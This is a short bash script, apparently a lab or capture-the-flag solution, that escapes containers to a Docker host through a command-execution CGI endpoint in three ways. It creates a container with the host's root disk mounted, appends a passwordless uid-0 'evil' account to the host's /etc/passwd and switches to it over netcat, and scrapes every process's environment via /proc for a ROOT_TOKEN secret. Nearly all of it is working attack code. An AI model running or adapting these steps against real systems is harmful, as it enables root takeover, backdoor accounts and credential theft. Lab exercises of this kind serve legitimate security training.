#!/bin/bash
# Three helpers, three ways to the same secret. Each is tried on its own.
run() { curl --silent --max-time 8 --get "http://dockerhost:$1/cgi-bin/run" --data-urlencode "cmd=$2"; }

# 1. dash: the socket is mounted read-only, yet it creates a container that has the Docker host's whole disk.
name=hook-$RANDOM
create='{"Image":"lab/bb","Cmd":["cat","/disk/root/flag.txt"],"HostConfig":{"Binds":["/:/disk"]}}'
run 8091 "docker-api POST '/containers/create?name=$name' '$create' && docker-api POST /containers/$name/start; sleep 1; docker-api GET '/containers/$name/logs?stdout=1'"
run 8091 "docker-api DELETE '/containers/$name?force=1'" >/dev/null

# 2. backup: /etc is the Docker host's own, so a new account is one line. dev may then become it.
run 8092 "echo 'evil::0:0::/root:/bin/bash' >>/host/etc/passwd" >/dev/null
printf '%s\n' 'Hafen-2019' "echo 'cat /root/flag.txt' | su evil" | nc -N -w 5 dockerhost 2222
run 8092 "sed -i /^evil:/d /host/etc/passwd" >/dev/null

# 3. metrics: the host's /proc shows the environment of every process, the vault's included.
run 8093 'cat /host/proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep ^ROOT_TOKEN=' | sort -u
true
